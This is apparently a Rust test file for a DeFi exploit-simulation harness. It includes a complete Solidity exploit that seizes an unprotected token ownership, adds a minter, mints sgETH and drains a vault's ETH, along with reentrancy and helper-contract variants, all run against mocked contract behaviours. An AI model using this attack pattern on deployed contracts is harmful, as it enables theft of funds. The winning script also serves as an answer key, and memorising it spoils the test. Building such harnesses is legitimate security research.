use proptest::prelude::*;

use super::*;
use crate::chain::ChainSnapshot;
use crate::dex::{Dex, DexStyle, Pool, PoolV2};
use crate::domain::{parse_address, BlockRef, ChainId};

const E18: u128 = 1_000_000_000_000_000_000;
const TOKEN: &str = "0x9e52db44d62a8c9762fa847bd2eba9d0585782d1";
const VAULT: &str = "0x85bc06f4e3439d41f610a440ba0fbe333736b310";

const BEHAVIORS: &str = r#"
token 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 18 sgETH
var 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 owner 0x00000000000000000000000000000000000000aa
balance native 0x85bc06f4e3439d41f610a440ba0fbe333736b310 2360000000000000000

on 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 transferOwnership(address)
  set owner = $arg0
end
on 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 addMinter(address)
  require $sender == owner "Ownable: caller is not the owner"
  require $arg0 != owner "owner cannot be a minter"
  set minters[$arg0] = 1
end
on 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 mint(address,uint256)
  require minters[$sender] == 1 "caller is not a minter"
  mint $self $arg0 $arg1
end
on 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 poison()
  mint $self $sender 1000
  revert "poisoned"
end
on 0x85bc06f4e3439d41f610a440ba0fbe333736b310 withdraw(uint256)
  require balance(native, $self) >= $arg0 "vault: insufficient ETH"
  burn 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 $sender $arg0
  hook $sender
  transfer native $self $sender $arg0
end
helper relay
on helper:relay addMinterFor(address,address)
  call $arg0 addMinter($arg1)
end
"#;

fn a(s: &str) -> Address {
    parse_address(s).unwrap()
}

fn snapshot() -> ChainSnapshot {
    let mut s = ChainSnapshot::empty(BlockRef {
        chain: ChainId::Ethereum,
        number: 18_041_975,
    });
    s.code.insert(a(TOKEN), vec![0x60, 0x80]);
    s.code.insert(a(VAULT), vec![0x60, 0x80]);
    s.targets = vec![a(TOKEN), a(VAULT)];
    s
}

fn scenario() -> Scenario {
    let reg = DexRegistry::empty(base_currency(ChainId::Ethereum).wrapped);
    Scenario::with_behaviors(snapshot(), reg, BEHAVIORS).unwrap()
}

const WINNING: &str = r#"
contract Exploit {
    address constant SGETH = 0x9e52dB44d62A8c9762FA847Bd2eBa9d0585782d1;
    address constant VAULT = 0x85Bc06f4e3439d41f610a440Ba0FbE333736B310;
    function exploit() external {
        ISGETH(SGETH).transferOwnership(address(this));
        ISGETH(SGETH).addMinter(actor(1));
        vm.startPrank(actor(1));
        ISGETH(SGETH).mint(actor(1), 2.36 ether);
        IVault(VAULT).withdraw(2.36 ether);
        vm.stopPrank();
    }
}
"#;

fn run(src: &str) -> ExecutionReport {
    execute(&scenario(), &translate(src).unwrap()).unwrap()
}

#[test]
fn two_actor_exploit_is_profitable() {
    let r = run(WINNING);
    assert!(r.profitable, "{r:?}");
    assert_eq!(r.revenue.raw, U256::from(236u128 * E18 / 100));
    assert_eq!(r.profit.unwrap().magnitude.raw, U256::from(236u128 * E18 / 100));
    let callers: std::collections::BTreeSet<_> = r.trace.iter().map(|f| f.caller).collect();
    assert!(callers.contains(&actor_address(0)));
    assert!(callers.contains(&actor_address(1)));
    assert_eq!(r.gas_used, r.trace.len() as u64);
    assert!(r.revert_reason.is_none());
    r.validate().unwrap();
}

#[test]
fn owner_cannot_mint_for_itself() {
    let src = WINNING.replace("addMinter(actor(1))", "addMinter(address(this))");
    let r = run(&src);
    assert!(!r.profitable);
    assert_eq!(r.revert_reason.as_deref(), Some("owner cannot be a minter"));
    // Execution stops at the reverted step.
    assert_eq!(r.trace.len(), 2);
    assert!(!r.trace[1].success);
}

#[test]
fn deterministic_reports() {
    let s = scenario();
    let script = translate(WINNING).unwrap();
    let a = serde_json::to_string(&execute(&s, &script).unwrap()).unwrap();
    let b = serde_json::to_string(&execute(&s, &script).unwrap()).unwrap();
    assert_eq!(a, b);
}

#[test]
fn empty_strategy_has_zero_profit() {
    let r = execute(&scenario(), &StrategyScript::new(vec![])).unwrap();
    assert!(!r.profitable);
    assert!(r.profit.unwrap().magnitude.is_zero());
    assert!(r.trace.is_empty());
}

#[test]
fn unknown_target_is_invalid() {
    let src = "contract X { function exploit() external { IFoo(0x00000000000000000000000000000000DeaDBeef).f(); } }";
    let err = execute(&scenario(), &translate(src).unwrap()).unwrap_err();
    assert!(matches!(err, ExecError::ScenarioInvalid(_)));
}

#[test]
fn tolerant_step_rolls_back_and_continues() {
    let src = WINNING.replace(
        "ISGETH(SGETH).transferOwnership(address(this));",
        "try ISGETH(SGETH).poison() {} catch {}\n ISGETH(SGETH).transferOwnership(address(this));",
    );
    let r = run(&src);
    assert!(r.profitable);
    assert_eq!(r.revert_reason.as_deref(), Some("poisoned"));
    // The poisoned mint was rolled back: no leftover sgETH is counted.
    assert_eq!(r.revenue, run(WINNING).revenue);
}

#[test]
fn reentrant_callback_nests_frames() {
    let src = WINNING.replace(
        "function exploit()",
        "receive() external payable { ISGETH(SGETH).balanceOf(address(this)); }\n function exploit()",
    );
    let r = run(&src);
    assert!(r.profitable);
    let recv = r.trace.iter().find(|f| f.function == "receive").unwrap();
    assert_eq!(recv.depth, 1);
    assert!(r.trace.iter().any(|f| f.function == "balanceOf" && f.depth == 2));
}

#[test]
fn helper_contract_relays_calls() {
    let src = r#"
contract Exploit {
    address constant SGETH = 0x9e52dB44d62A8c9762FA847Bd2eBa9d0585782d1;
    address constant VAULT = 0x85Bc06f4e3439d41f610a440Ba0FbE333736B310;
    function exploit() external {
        address h = deployHelper("relay");
        ISGETH(SGETH).transferOwnership(h);
        IRelay(h).addMinterFor(SGETH, address(this));
        ISGETH(SGETH).mint(address(this), 1 ether);
        IVault(VAULT).withdraw(1 ether);
    }
}
"#;
    let r = run(src);
    assert!(r.profitable, "{r:?}");
    assert_eq!(r.revenue.raw, U256::from(E18));
    assert!(r.trace.iter().any(|f| f.function == "constructor" && f.callee == helper_address(0)));
}

#[test]
fn swap_round_trip_loses_fees() {
    let t = Address::from_low_u64(0x77);
    let wrapped = base_currency(ChainId::Ethereum).wrapped;
    let reg = DexRegistry::new(
        wrapped,
        vec![Dex {
            id: "uni".into(),
            style: DexStyle::V2,
            fee_tiers: vec![3000],
        }],
        vec![],
        vec![Pool::V2(PoolV2::new("uni", t, wrapped, U256::from(1000 * E18), U256::from(1000 * E18), 3000))],
    )
    .unwrap();
    let mut snap = snapshot();
    snap.code.insert(t, vec![0x60]);
    let behaviors = format!("token {t} 18 TKN\n");
    let sc = Scenario::with_behaviors(snap, reg, &behaviors).unwrap();
    let src = format!(
        "contract X {{ address constant T = {t}; function exploit() external {{
            uint256 got = swapExactBaseTokenToToken(T, 10 ether);
            swapExactTokenToBaseToken(T, got);
        }} }}"
    );
    let r = execute(&sc, &translate(&src).unwrap()).unwrap();
    assert!(!r.profitable);
    assert!(r.profit.unwrap().negative);
    assert_eq!(r.trace.len(), 2);
    assert!(r.trace.iter().all(|f| f.callee == router_address()));
}

#[test]
fn actor_out_of_range_is_invalid() {
    let script = StrategyScript {
        steps: vec![Step::ActAs(3)],
        callback: vec![],
        actors: 2,
    };
    assert!(matches!(
        execute(&scenario(), &script),
        Err(ExecError::ScenarioInvalid(_))
    ));
}

#[test]
fn behavior_errors_carry_line_numbers() {
    let reg = DexRegistry::empty(base_currency(ChainId::Ethereum).wrapped);
    let bad = "token 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 18\n\non 0x9e52db44d62a8c9762fa847bd2eba9d0585782d1 f()\n  frobnicate\nend\n";
    match Scenario::with_behaviors(snapshot(), reg.clone(), bad) {
        Err(ExecError::Behavior { line, .. }) => assert_eq!(line, 4),
        other => panic!("{other:?}"),
    }
    let undeclared = "on 0x85bc06f4e3439d41f610a440ba0fbe333736b310 f()\n  mint 0x0000000000000000000000000000000000000077 $sender 1\nend\n";
    assert!(matches!(
        Scenario::with_behaviors(snapshot(), reg, undeclared),
        Err(ExecError::ScenarioInvalid(_))
    ));
}

fn winning_steps() -> Vec<Step> {
    translate(WINNING).unwrap().steps
}

fn poison() -> Step {
    Step::Exec {
        expr: Expr::Call(Box::new(CallExpr {
            target: Expr::Lit(a(TOKEN).to_u256()),
            function: "poison".into(),
            args: vec![],
            value: None,
        })),
        bind: None,
        tolerant: true,
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Inserting reverting tolerant steps anywhere leaves the outcome and
    /// the surviving trace unchanged.
    #[test]
    fn reverted_steps_leave_no_state(positions in proptest::collection::vec(0usize..6, 0..5)) {
        let sc = scenario();
        let base = StrategyScript::new(winning_steps());
        let mut steps = winning_steps();
        for p in &positions {
            let at = (*p).min(steps.len());
            steps.insert(at, poison());
        }
        let poisoned = StrategyScript::new(steps);
        let r0 = execute(&sc, &base).unwrap();
        let r1 = execute(&sc, &poisoned).unwrap();
        prop_assert_eq!(r0.profit, r1.profit);
        let kept: Vec<_> = r1.trace.iter().filter(|f| f.function != "poison").cloned().collect();
        prop_assert_eq!(&kept, &r0.trace);
        prop_assert_eq!(r1.trace.len(), r0.trace.len() + positions.len());
    }
}
